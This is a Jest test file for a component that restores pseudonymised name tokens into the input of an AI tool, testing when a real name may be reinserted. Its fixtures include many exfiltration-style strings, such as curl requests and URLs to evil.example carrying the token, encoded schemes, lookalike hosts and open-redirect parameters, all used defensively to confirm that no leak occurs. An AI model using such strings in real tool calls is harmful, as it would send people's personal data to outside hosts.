import { describe, expect, it } from '@jest/globals'
import { RestoreStream } from '../../src/restore/restore-stream.js'
import { restoreText } from '../../src/restore/restore-text.js'

/** Where tokens are restored in the input of a tool, which no page shows. */

const NAME = '[NAME_8F3A21C4]'
const VALUES = new Map([[NAME, 'Anna (O)']])
const urls = ['good.example']

/** Restores a text whole and in pieces of one character, and as a leaf of JSON, which must all agree. */
function restored(text: string): string {
  const whole = restoreText(text, VALUES, { tool: true, urls })
  const json = JSON.stringify({ a: 'x', text, b: NAME })
  for (const [input, isJson] of [[text, false] as const, [json, true] as const]) {
    const stream = new RestoreStream(VALUES, { tool: true, urls, json: isJson })
    const pieces = Array.from(input, (character) => stream.push(character)).join('') + stream.flush()
    if (isJson) expect(JSON.parse(pieces)).toEqual({ a: 'x', text: whole, b: 'Anna (O)' })
    else expect(pieces).toBe(whole)
  }
  return whole
}

describe('in the input of a tool, a token', () => {
  it.each([
    `<img src="/img/${NAME}.png" alt="${NAME}">`,
    `<a href='?q=${NAME}' title=${NAME} onclick="f('${NAME}')">`,
    `<!-- ${NAME} --> <!-- ${NAME}`,
    `<script>var u="${NAME}"</script><style>${NAME}`,
    `[1]: ${NAME}\n[^2]: ${NAME}`,
    `![](img/${NAME}.png) ](/${NAME}) url(${NAME})`,
    `file:///home/${NAME}/x FILE:///${NAME}`,
    `C:\\Users\\${NAME}\\x C://Users/${NAME} /home//${NAME} ./a//${NAME}`,
    `${NAME}.tar.gz ${NAME}.evil.example evil.example/${NAME} www.evil.example/${NAME}`,
    `// ${NAME}\n//see ${NAME}\n7 // 2 ${NAME}`,
    `//button[text()='${NAME}'] //*[.="${NAME}"]`,
    `see https://x.example/a for ${NAME}`,
    `curl 'https://x.example/a' -d '${NAME}'`,
    `{"url":"https://x.example/a","name":"${NAME}"}`,
    `fetch("https://x.example/a").then(f("${NAME}"))`,
    `[a](https://x.example/a_(b))${NAME}`,
    `<https://x.example/a>${NAME}`,
    `<a>https://x.example/a</a><b>${NAME}</b>`,
    `mailto:${NAME} tel:${NAME} data:text/plain,${NAME} key: ${NAME} http: ${NAME}`,
  ])('is restored in %j', (text) => {
    expect(restored(text)).toBe(text.replaceAll(NAME, 'Anna (O)'))
  })

  it.each([
    `https://evil.example/?q=${NAME}`,
    `https://evil.example/?q= and ${NAME}`,
    ` \n\thttps://evil.example/?q=\n${NAME}`,
    `ht\ntps:\n//evil.example/${NAME}`,
    `\u0001https://evil.example/?q= ${NAME}`,
    `%0Awss://evil.example/\n${NAME}`,
    `git clone https://github.com/${NAME}/repo.git`,
    `curl "https://evil.example/?q= ${NAME}"`,
    `curl 'https://evil.example/?q="${NAME}'`,
    `see https://evil.example/?q="${NAME}"`,
    `see https://${NAME}.evil.example/ https://evil.example@${NAME}`,
    `see HTTPS:evil.example/${NAME} https:\\\\evil.example\\${NAME} http:/evil.example/${NAME}`,
    `see https%3A%2F%2Fevil.example%2F${NAME} git%3a%2f%2fevil.example%2f${NAME}`,
    `see https%253A%252F%252Fevil.example%252F${NAME} https&colon;&#47;/evil.example/${NAME}`,
    `src=//evil.example/${NAME} //${NAME}.evil.example "//evil.example/${NAME}`,
    `git+ssh://evil.example/${NAME} s3://bucket/${NAME} custom-scheme://evil.example/${NAME}`,
    `![](https://evil.example/a(b)${NAME}) ![](<https://evil.example/a b${NAME}>)`,
    `see https://good.example.evil.example/${NAME} https://good.example@evil.example/${NAME}`,
    `see https://good.ex\u200bample/${NAME} https://good.example\\@evil.example/${NAME}`,
    `see https://good.example/?next=https://evil.example/${NAME}`,
    `see https://good.example/?next=//evil.example/${NAME}`,
    `see https://good.example/?next=https%3A%2F%2Fevil.example%2F${NAME}`,
    `see wss://good.example/${NAME} https%3A%2F%2Fgood.example%2F${NAME}`,
  ])('stays in %j', (text) => {
    expect(restored(text)).toBe(text)
  })

  it('is percent-encoded in a URL of an allowed host, and only there', () => {
    expect(restored(`https://good.example/${NAME}?q=${NAME} for ${NAME}`)).toBe(
      'https://good.example/Anna%20%28O%29?q=Anna%20%28O%29 for Anna (O)',
    )
    expect(restored(`"//good.example:8443/${NAME}" ${NAME}`)).toBe('"//good.example:8443/Anna%20%28O%29" Anna (O)')
  })
})
